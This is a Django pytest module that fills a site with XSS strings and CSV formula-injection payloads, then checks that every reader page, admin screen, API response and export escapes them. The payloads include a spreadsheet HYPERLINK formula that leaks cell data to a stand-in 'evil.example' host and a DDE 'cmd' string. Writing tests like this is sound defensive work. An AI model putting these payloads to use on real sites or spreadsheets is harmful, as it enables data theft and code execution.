"""Hostile text from articles and editors is inert everywhere it is shown.

One world full of script payloads is built once; every reader page, every
admin screen, the API, the chart JSON and the exports are fetched from it and
their raw bytes are checked.
"""

from __future__ import annotations

import csv
import io
import json
import re
from html.parser import HTMLParser
from types import SimpleNamespace
from urllib.parse import quote

import pytest
from django.contrib import admin
from django.core.cache import cache
from django.test import Client
from django.urls import reverse

from tests.factories import make_actor, make_agreement, make_article, make_event, make_place, make_user
from tests.test_public_routes import (
    Route,
    concrete_paths,
    iter_routes,
    reader_values,
    route_id,
)
from tracker.models import ActorRelation, Agreement, AgreementParty, Event, PlaceAlias

# Every test reads the database the module fixture fills (pytest-django sets it up only when marked).
pytestmark = pytest.mark.django_db

SCRIPT = "<script>alert(1)</script>"
ATTRIBUTE = '"onmouseover="alert(1)'
CLOSE_SCRIPT = "</script><script>alert(2)</script>"
IMAGE = "<img src=x onerror=alert(3)>"
PAYLOADS = [SCRIPT, ATTRIBUTE, CLOSE_SCRIPT, IMAGE]
# What must never appear raw in HTML; the single quote form of the attribute too.
RAW_DANGERS = [*PAYLOADS, "<script>alert", "<img src=x", 'onmouseover="alert', "onmouseover='alert"]
JAVASCRIPT_URL = "javascript:alert(4)"
LINK_TO_SCRIPT = re.compile(r"""(href|src|action|formaction)\s*=\s*["']?\s*javascript:""", re.IGNORECASE)
FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"Open")', "@SUM(1+1)*cmd|' /C calc'!A0", "+1+cmd", "-2+3"]


def make_hostile_world():
    """Build curated rows, articles and events whose every text field is a payload."""
    turkey = make_actor(f"Turkey {SCRIPT}", aliases=[ATTRIBUTE, IMAGE], description=CLOSE_SCRIPT)
    russia = make_actor(f"Russia {ATTRIBUTE}", aliases=[CLOSE_SCRIPT])
    leader = make_actor(f"Leader {IMAGE}", kind="person")
    ActorRelation.objects.create(actor=leader, other=turkey, kind=ActorRelation.Kind.ACTS_FOR, source=SCRIPT)
    syria = make_place(f"Syria {CLOSE_SCRIPT}", kind="country", latitude=35.0, longitude=38.0)
    idlib = make_place(f"Idlib {IMAGE}", kind="province", latitude=35.9, longitude=36.6, parent=syria)
    PlaceAlias.objects.create(place=idlib, name=f"Idleb {SCRIPT}")
    memo = make_agreement(f"Sochi {CLOSE_SCRIPT}", summary=IMAGE, description=ATTRIBUTE)
    memo.aliases.create(name=f"Memo {SCRIPT}")
    AgreementParty.objects.create(agreement=memo, actor=turkey)
    AgreementParty.objects.create(agreement=memo, actor=russia, role=AgreementParty.Role.GUARANTOR)

    sentence = f"Turkey and Russia met in Idlib on Monday {SCRIPT} and {ATTRIBUTE}."
    article = make_article(
        f"{sentence} They signed a memo {CLOSE_SCRIPT} with {IMAGE} in it.",
        title=f"Headline {SCRIPT}",
        publisher=f"Publisher {IMAGE}",
        # A feed can carry any link; pages must never make it clickable.
        url=JAVASCRIPT_URL,
    )
    events = [
        make_event(
            "2018-09-17",
            title=f"Meeting {SCRIPT} {IMAGE}",
            summary=f"{CLOSE_SCRIPT} {ATTRIBUTE}",
            actors=[turkey, russia, leader],
            places=[idlib],
            agreements=[memo],
            article=article,
            sentence=sentence,
        ),
        make_event(
            "2018-10",
            title=f"Patrols {CLOSE_SCRIPT}",
            summary=IMAGE,
            actors=[turkey, russia],
            places=[idlib, syria],
            agreements=[memo],
        ),
        make_event(
            "2019-03-01",
            title=f"Candidate {SCRIPT}",
            summary=ATTRIBUTE,
            status=Event.Status.CANDIDATE,
            actors=[turkey, russia],
            places=[idlib],
            agreements=[memo],
            article=article,
            sentence=sentence,
        ),
    ]
    formula_actor = make_actor(FORMULAS[0])
    formula_place = make_place(FORMULAS[2])
    formula_memo = make_agreement(FORMULAS[3])
    events.append(
        make_event(
            "2019-05-05",
            title=FORMULAS[0],
            summary=FORMULAS[1],
            actors=[formula_actor, turkey],
            places=[formula_place],
            agreements=[formula_memo],
        )
    )
    return SimpleNamespace(events=events, article=article)


# --- What "inert" means --------------------------------------------------------


class ScriptTags(HTMLParser):
    """Collect the attributes of every <script> tag and whether it has a body."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.scripts: list[dict] = []
        self._open: dict | None = None

    def handle_starttag(self, tag, attrs):
        if tag == "script":
            self._open = {**dict(attrs), "_body": ""}
            self.scripts.append(self._open)

    def handle_data(self, data):
        if self._open is not None:
            self._open["_body"] += data

    def handle_endtag(self, tag):
        if tag == "script":
            self._open = None


def is_html(content_type: str) -> bool:
    return content_type.split(";")[0].strip() in {"text/html", "application/xhtml+xml"}


def dangers_in_html(text: str) -> list[str]:
    found = [danger for danger in RAW_DANGERS if danger in text]
    found += [match.group(0) for match in LINK_TO_SCRIPT.finditer(text)]
    return found


def generated_script_paths() -> set[str]:
    """Return the site's own script endpoints that are not files (no article text goes in them)."""
    # Django's translation catalogue, and Swagger UI's start-up script served by
    # drf-spectacular's split view (so the docs page needs no inline script).
    return {reverse("admin:jsi18n"), reverse("api-docs")}


def bad_scripts(text: str) -> list[dict]:
    """Return <script> tags that are neither a same-site file nor inert JSON data."""
    parser = ScriptTags()
    parser.feed(text)
    bad = []
    generated = generated_script_paths()
    for script in parser.scripts:
        src = script.get("src")
        if src is not None:
            path = src.split("?")[0]
            own = src.startswith("/static/") or path in generated
            if not own or src.startswith("//") or script["_body"].strip():
                bad.append(script)
        elif script.get("type") != "application/json":
            bad.append(script)
    return bad


def json_script_blocks(text: str) -> list:
    blocks = re.findall(r'<script id="[^"]*" type="application/json">(.*?)</script>', text, re.S)
    blocks += re.findall(r'<script type="application/json" id="[^"]*">(.*?)</script>', text, re.S)
    return [json.loads(block) for block in blocks]


def strings_in(value):
    if isinstance(value, str):
        yield value
    elif isinstance(value, dict):
        for item in value.values():
            yield from strings_in(item)
    elif isinstance(value, list):
        for item in value:
            yield from strings_in(item)


def is_figure(value) -> bool:
    return isinstance(value, dict) and "data" in value and "layout" in value


# --- Crawling ------------------------------------------------------------------

HOSTILE_QUERIES = ["", f"?q={quote(SCRIPT)}", f"?q={quote(ATTRIBUTE)}&actor={quote(IMAGE)}"]


def reader_pages(world) -> dict[str, dict]:
    values = reader_values(world)
    pages = {}
    client = Client(raise_request_exception=False)
    for route in iter_routes():
        if route.is_admin:
            continue
        queries = HOSTILE_QUERIES if not route.params else [""]
        paths = [path + query for path in concrete_paths(route, values) for query in queries]
        pages[route_id(route)] = crawl_typed(client, paths)
    return pages


def crawl_typed(client, paths) -> dict[str, tuple[int, str, str]]:
    typed = {}
    for path in paths:
        cache.clear()
        response = client.get(path)
        if getattr(response, "streaming", False):
            text = b"".join(response.streaming_content).decode("utf-8", "replace")
        else:
            text = response.content.decode("utf-8", "replace")
        typed[path] = (response.status_code, response.get("Content-Type", ""), text)
    return typed


def admin_values_for():
    """Return a values function giving each admin route ids of its own model."""
    prefixes = {}
    for model in admin.site._registry:
        meta = model._meta
        pks = [str(pk) for pk in model._default_manager.order_by("-pk").values_list("pk", flat=True)[:2]]
        prefixes[f"admin:{meta.app_label}_{meta.model_name}_"] = (model, pks)

    def values(route: Route, param: str) -> list[str]:
        if param == "app_label":
            return ["tracker"]
        for prefix, (_model, pks) in prefixes.items():
            if route.name.startswith(prefix):
                return pks or ["1"]
        return ["1"]

    def history_paths(route: Route) -> list[str]:
        for prefix, (model, pks) in prefixes.items():
            if route.name.startswith(prefix) and hasattr(model, "history") and pks:
                rows = model.history.filter(pk__in=pks).values_list("pk", "history_id")[:2]
                return [reverse(route.name, args=[pk, history_id]) for pk, history_id in rows]
        return []

    return values, history_paths


def admin_pages() -> dict[str, dict]:
    client = Client(raise_request_exception=False)
    client.force_login(make_user(superuser=True, username="xss-admin"))
    values, history_paths = admin_values_for()
    pages = {}
    skip = {"admin:logout", "admin:view_on_site", "admin:autocomplete"}
    for route in iter_routes():
        if not route.is_admin or route.name in skip:
            continue
        if route.positional:
            paths = history_paths(route)
        else:
            paths = concrete_paths(route, values)
            if route.name.endswith("_changelist"):
                paths += [path + f"?q={quote(SCRIPT)}" for path in paths]
        pages[route_id(route)] = crawl_typed(client, paths)
    return pages


@pytest.fixture(scope="module")
def hostile(django_db_setup, django_db_blocker):
    """Build the hostile world once, fetch every page from it, and roll back."""
    from django.conf import settings
    from django.db import transaction

    hashers = settings.PASSWORD_HASHERS
    settings.PASSWORD_HASHERS = ["django.contrib.auth.hashers.MD5PasswordHasher"]
    try:
        with django_db_blocker.unblock(), transaction.atomic():
            world = make_hostile_world()
            result = SimpleNamespace(readers=reader_pages(world), admin=admin_pages())
            transaction.set_rollback(True)
    finally:
        settings.PASSWORD_HASHERS = hashers
        cache.clear()
    return result


READER_ROUTES = [route for route in iter_routes() if not route.is_admin]
ADMIN_ROUTES = [
    route
    for route in iter_routes()
    if route.is_admin and route.name not in {"admin:logout", "admin:view_on_site", "admin:autocomplete"}
]


def assert_inert(pages):
    problems = {}
    for path, (_status, content_type, text) in pages.items():
        if is_html(content_type):
            found = dangers_in_html(text)
            if found:
                problems[path] = found
    assert not problems, f"unescaped hostile text: {problems}"


# --- Tests ---------------------------------------------------------------------


@pytest.mark.parametrize("route", READER_ROUTES, ids=route_id)
def test_it_renders_hostile_text_inert_on_every_reader_page(hostile, route):
    assert_inert(hostile.readers[route_id(route)])


@pytest.mark.parametrize("route", ADMIN_ROUTES, ids=route_id)
def test_it_renders_hostile_text_inert_on_every_admin_screen(hostile, route):
    assert_inert(hostile.admin[route_id(route)])


def test_it_shows_the_hostile_text_escaped_rather_than_dropping_it(hostile):
    # Guard the guard: the payloads were on the pages, as text.
    reader_html = " ".join(text for pages in hostile.readers.values() for _, _, text in pages.values())
    admin_html = " ".join(text for pages in hostile.admin.values() for _, _, text in pages.values())
    for escaped in ["&lt;script&gt;alert(1)&lt;/script&gt;", "&lt;img src=x onerror=alert(3)&gt;"]:
        assert escaped in reader_html
        assert escaped in admin_html
    assert "&quot;onmouseover=&quot;alert(1)" in reader_html or "&#x27;" in reader_html


def test_it_loads_scripts_only_from_static_files(hostile):
    bad = {}
    for group in (hostile.readers, hostile.admin):
        for pages in group.values():
            for path, (status, content_type, text) in pages.items():
                if status == 200 and is_html(content_type):
                    scripts = bad_scripts(text)
                    if scripts:
                        bad[path] = scripts
    assert not bad, f"inline or external scripts: {bad}"


def test_it_escapes_article_text_inside_chart_figures(hostile):
    figures = []
    for pages in hostile.readers.values():
        for status, content_type, text in pages.values():
            if status == 200 and is_html(content_type):
                figures += [block for block in json_script_blocks(text) if is_figure(block)]
    assert figures, "no chart figures found on the reader pages"
    texts = [text for figure in figures for text in strings_in(figure)]
    # plotly.js renders these strings as pseudo-HTML: markup from articles must arrive escaped.
    assert not [text for text in texts if "<script" in text or "<img" in text]
    assert any("&lt;script&gt;" in text or "&lt;img" in text for text in texts)


def test_it_serves_api_data_as_json_never_as_html(hostile):
    for route_name, pages in hostile.readers.items():
        if not route_name.startswith("api-") or route_name.startswith("api-docs"):
            continue
        for path, (status, content_type, _text) in pages.items():
            if ".api" in path or status != 200:
                continue
            assert not is_html(content_type), (path, content_type)


def test_it_neutralises_formulas_in_the_csv_export(hostile):
    pages = hostile.readers[route_id(next(r for r in READER_ROUTES if r.name == "api-export-events-csv"))]
    status, content_type, text = pages[reverse("api-export-events-csv")]
    assert status == 200 and content_type.startswith("text/csv")
    rows = list(csv.reader(io.StringIO(text)))
    cells = [cell for row in rows[1:] for cell in row]
    assert any("HYPERLINK" in cell for cell in cells), "the formula event is not in the export"
    assert not [cell for cell in cells if cell[:1] in {"=", "+", "-", "@", "\t", "\r"}]


def test_it_exports_json_lines_as_data(hostile):
    pages = hostile.readers[route_id(next(r for r in READER_ROUTES if r.name == "api-export-events-jsonl"))]
    status, content_type, text = pages[reverse("api-export-events-jsonl")]
    assert status == 200 and not is_html(content_type)
    records = [json.loads(line) for line in text.splitlines() if line.strip()]
    assert any(SCRIPT in record["title"] for record in records)


def test_it_refuses_a_javascript_link_for_an_agreement_in_the_admin(settings):
    settings.PASSWORD_HASHERS = ["django.contrib.auth.hashers.MD5PasswordHasher"]
    client = Client()
    client.force_login(make_user(superuser=True))
    response = client.post(
        reverse("admin:tracker_agreement_add"),
        {"name": "Risky", "kind": "agreement", "status": "in_force", "source_url": JAVASCRIPT_URL},
        follow=True,
    )
    assert response.status_code == 200
    assert not Agreement.objects.filter(name="Risky").exists()


def test_it_fetched_real_admin_screens(hostile):
    statuses = [status for pages in hostile.admin.values() for status, _, _ in pages.values()]
    assert statuses.count(200) > 100, sorted(statuses)


def test_it_recognises_dangerous_markup():
    # Guard the checks themselves.
    assert dangers_in_html(f"<p>{SCRIPT}</p>")
    assert dangers_in_html(f'<a title="{ATTRIBUTE}">')
    assert dangers_in_html('<a href="javascript:alert(4)">x</a>')
    assert dangers_in_html("<a href = ' JavaScript:alert(4)'>x</a>")
    assert not dangers_in_html("<p>&lt;script&gt;alert(1)&lt;/script&gt; javascript:alert(4)</p>")
    assert bad_scripts("<script>alert(1)</script>")
    assert bad_scripts('<script src="https://cdn.example/x.js"></script>')
    assert bad_scripts('<script src="//cdn.example/x.js"></script>')
    assert bad_scripts('<script src="/static/x.js">alert(1)</script>')
    assert not bad_scripts(
        '<script src="/static/x.js" defer></script><script type="application/json" id="d">{}</script>'
    )
